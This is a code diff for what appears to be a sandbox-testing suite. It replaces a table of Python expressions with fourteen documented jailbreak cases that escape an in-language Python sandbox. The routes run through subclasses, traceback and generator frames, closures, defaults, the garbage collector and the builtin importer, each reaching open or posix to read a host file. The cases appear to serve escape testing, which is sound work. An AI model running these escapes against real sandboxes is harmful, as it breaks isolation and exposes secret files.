@@ -1,120 +1,134 @@
+/** Holes of sandboxes within the language: frames, closures and the graph of objects. */
 import type { Attack } from './attack.ts';
+import { jailbreak, OPEN_BY_BUILTINS } from './jailbreak.ts';
 
-const JAIL = 'write-ups of Python jails in capture-the-flag contests';
-const PYSANDBOX = 'the list of holes in the first pysandbox, 2010 to 2013';
-const SAFELITE = 'the challenge of safelite.py, 2009';
-const RESTRICTED = 'advisories of RestrictedPython';
-
-/** An expression that finds the function which opens files, or another way to one: how, and where from. */
-const WAYS_TO_OPEN: readonly (readonly [how: string, known: string, expression: string])[] = [
-  ['the builtins themselves', JAIL, 'open'],
-  [
-    'a class among the subclasses of object whose module has os',
-    SAFELITE,
-    `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["__builtins__"]["open"]`,
-  ],
-  [
-    'the class of raw files among the subclasses of object',
-    PYSANDBOX,
-    `(lambda walk: walk(walk, object))(lambda walk, kind: next((c for s in type.__subclasses__(kind) for c in ([s] if s.__name__ == "FileIO" else [walk(walk, s)]) if c), None))`,
-  ],
-  ['the module that a builtin function is bound to', JAIL, 'print.__self__.open'],
-  [
-    'the globals of a function of the library',
-    PYSANDBOX,
-    '__import__("json").dumps.__globals__["__builtins__"]["open"]',
-  ],
-  ['the frame of a traceback', SAFELITE, 'raised().__traceback__.tb_frame.f_builtins["open"]'],
-  ['the frame of a generator', PYSANDBOX, '(n for n in ()).gi_frame.f_builtins["open"]'],
-  [
-    'the frame of a coroutine',
-    JAIL,
-    '(lambda c: (c.cr_frame.f_builtins["open"], c.close())[0])(coroutine())',
-  ],
-  ['the frame of the caller', JAIL, '__import__("sys")._getframe().f_builtins["open"]'],
-  ['the modules that are loaded', PYSANDBOX, '__import__("sys").modules["io"].open'],
-  ['the loader of a module', JAIL, '__import__("_frozen_importlib_external")._io.open'],
-  [
-    'an import by the machinery’s own function',
-    PYSANDBOX,
-    '__import__("importlib")._bootstrap._gcd_import("io").open',
-  ],
-  ['code that was compiled from a text', PYSANDBOX, 'eval(compile("open", "", "eval"))'],
-  ['code with other globals', RESTRICTED, 'eval("open", {"__builtins__": __builtins__})'],
-  [
-    'code that was read by marshal',
-    PYSANDBOX,
-    'eval(__import__("marshal").loads(__import__("marshal").dumps(compile("open", "", "eval"))))',
-  ],
-  [
-    'the code of a function, replaced',
-    PYSANDBOX,
-    '(lambda f: (setattr(f, "__code__", f.__code__.replace(co_names=("open",))), f())[1])(lambda: name)',
-  ],
-  ['what a string’s format looks up', RESTRICTED, 'formatted("{0.__self__.open}")'],
-  [
-    'what is reached by getattr and reduce',
-    JAIL,
-    '__import__("functools").reduce(getattr, ("__self__", "open"), print)',
-  ],
-  ['an attribute getter', JAIL, '__import__("operator").attrgetter("__self__.open")(print)'],
-  [
-    'what the collector of garbage knows',
-    PYSANDBOX,
-    '[f for f in __import__("gc").get_referents(__import__("io").__dict__) if getattr(f, "__name__", "") == "open"][0]',
-  ],
-  ['a pickle that names a function', PYSANDBOX, '__import__("pickle").loads(b"cio\\nopen\\n.")'],
-  [
-    'a type annotation that is evaluated',
-    JAIL,
-    '__import__("typing").get_type_hints(type("T", (), {"__annotations__": {"a": "type(open) and open"}}))["a"]',
-  ],
-  ['a hook of the class’s own name', JAIL, 'hooked()'],
-  ['a decorator without a call', JAIL, 'decorated'],
-  ['the exception’s own context', RESTRICTED, 'context()'],
-  [
-    'the module of warnings',
-    SAFELITE,
-    '__import__("warnings").catch_warnings()._module.__builtins__["open"]',
-  ],
-  [
-    'a finder of modules',
-    JAIL,
-    '__import__("sys").meta_path[-1].find_spec.__func__.__globals__["_io"].open',
-  ],
+export const LANGUAGE: readonly Attack[] = [
+  ...jailbreak({
+    title: 'a walk over object.__subclasses__ finds a loader that reads files',
+    known: "tav's safelite.py challenge (2009); pysandbox hid __subclasses__ for it",
+    jailed: `
+kinds = ().__class__.__base__.__subclasses__()
+found = [kind for kind in kinds if kind.__name__ == "FileLoader"][0]("x", path).get_data(path)
+`,
+  }),
+  ...jailbreak({
+    title: 'a walk over __mro__ finds a class whose __init__ has builtins in its globals',
+    known: 'write-ups of template injections and PyJails: os._wrap_close',
+    jailed: `
+kinds = "".__class__.__mro__[-1].__subclasses__()
+kind = [kind for kind in kinds if kind.__name__ == "_wrap_close"][0]
+builtins = kind.__init__.__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'warnings.catch_warnings leads to the modules that its own module imports',
+    known: 'PyJail write-ups: catch_warnings()._module (CSAW 2014 and on)',
+    given: 'catch_warnings=__import__("warnings").catch_warnings',
+    jailed: `
+found = catch_warnings()._module.sys.modules["io"].open(path).read()
+`,
+  }),
+  ...jailbreak({
+    title: "a traceback's frame leads to the frames of whoever built the sandbox",
+    known: 'safelite.py broken by tracebacks (python-dev, February 2009); pysandbox hid f_locals',
+    given: 'Division=ZeroDivisionError',
+    jailed: `
+try:
+    1 / 0
+except Division as error:
+    builtins = error.__traceback__.tb_frame.f_back.f_builtins${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'a generator leads by gi_frame to the frame that runs it',
+    known: 'safelite.py challenge: gi_frame; RestrictedPython, CVE-2023-37271',
+    jailed: `
+def walk():
+    frame = running.gi_frame
+    while not frame.f_builtins:
+        frame = frame.f_back
+    yield frame.f_builtins
+running = walk()
+builtins = [item for item in running][0]${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'a coroutine that is thrown at shows the frames above it',
+    known: 'PyJail write-ups: cr_frame, ag_frame and coroutine.throw',
+    given: 'Stop=KeyError',
+    jailed: `
+async def never():
+    pass
+coroutine = never()
+try:
+    coroutine.throw(Stop)
+except Stop as error:
+    builtins = error.__traceback__.tb_frame.f_back.f_builtins${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'the globals of a function that was handed in hold all of its module',
+    known: "pysandbox's test_attributes: func_globals",
+    given: 'helper=works',
+    jailed: `
+builtins = helper.__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'the closure of a guarded open holds the true one',
+    known: "pysandbox's test_attributes: func_closure of its safe_open",
+    given: 'guarded=(lambda real: lambda name: real("/dev/null"))(open)',
+    jailed: `
+found = guarded.__closure__[0].cell_contents(path).read()
+`,
+  }),
+  ...jailbreak({
+    title: 'the defaults of a function hold what it must not give away',
+    known: 'pysandbox 1.5: access to func_defaults blocked',
+    given: 'guarded=lambda name, real=open: None',
+    jailed: `
+found = guarded.__defaults__[0](path).read()
+`,
+  }),
+  ...jailbreak({
+    title: 'the module behind a builtin function is builtins itself',
+    known: 'PyJail write-ups: print.__self__',
+    given: 'harmless=len',
+    jailed: `
+found = harmless.__self__.open(path).read()
+`,
+  }),
+  ...jailbreak({
+    title: 'the reduction of any object is a function of copyreg, with its globals',
+    known: 'PyJail write-ups: __reduce_ex__',
+    // Else it would be imported now, by builtins that are not there.
+    given: 'imported=__import__("copyreg")',
+    jailed: `
+builtins = ().__reduce_ex__(2)[0].__globals__["__builtins__"]${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'an exception of the code that called the jail carries its frames in',
+    known: 'PyPy and safelite.py: exceptions that cross the border',
+    given: 'caller=lambda value: value == 1, kind=type, Any=Exception',
+    jailed: `
+Trap = kind("Trap", (), {"__eq__": lambda self, other: 1 / 0})
+try:
+    caller(Trap())
+except Any as error:
+    builtins = error.__traceback__.tb_next.tb_frame.f_globals["__builtins__"]${OPEN_BY_BUILTINS}`,
+  }),
+  ...jailbreak({
+    title: 'the collector of garbage knows every object, hidden ones too',
+    known: 'gc.get_objects, in the list of what pysandbox does not allow',
+    given: 'collector=__import__("gc")',
+    jailed: `
+spaces = [item for item in collector.get_objects() if item.__class__ is {}.__class__]
+found = [space for space in spaces if "open" in space and "abs" in space][0]["open"](path).read()
+`,
+  }),
+  ...jailbreak({
+    title: 'an importer of builtin modules is a class like any other, and has posix',
+    known: 'PyJail write-ups: BuiltinImporter.load_module',
+    jailed: `
+kinds = ().__class__.__base__.__subclasses__()
+importer = [kind for kind in kinds if kind.__name__ == "BuiltinImporter"][0]
+posix = importer.load_module("posix")
+found = posix.read(posix.open(path, 0), 1000)
+`,
+  }),
 ];
-
-/** What some of them need: tricks that are no expressions. */
-const HELPERS = `
-name = None
-def raised():
-    try: 1 / 0
-    except Exception as error: return error
-async def coroutine(): pass
-def formatted(path):
-    seen = []
-    class Spy:
-        def __format__(self, _): return ""
-    import string
-    return string.Formatter().get_field(path[1:-1], (print,), {})[0]
-class Meta(type):
-    def __getattribute__(cls, what): return open if what == "found" else super().__getattribute__(what)
-class Hooked(metaclass=Meta): pass
-def hooked(): return Hooked.found
-@(lambda kind: open)
-class decorated: pass
-def context():
-    try:
-        try: 1 / 0
-        except ZeroDivisionError: [][0]
-    except IndexError as error: return error.__context__.__traceback__.tb_frame.f_builtins["open"]
-`;
-
-export const LANGUAGE_ATTACKS: readonly Attack[] = WAYS_TO_OPEN.map(([how, known, expression]) => ({
-  title: `a file of the host is opened by ${how}`,
-  known,
-  goal: 'secret',
-  code: `${HELPERS}way = ${expression}
-data = way(CANARY).read()
-print(data if isinstance(data, str) else data.decode())`,
-}));
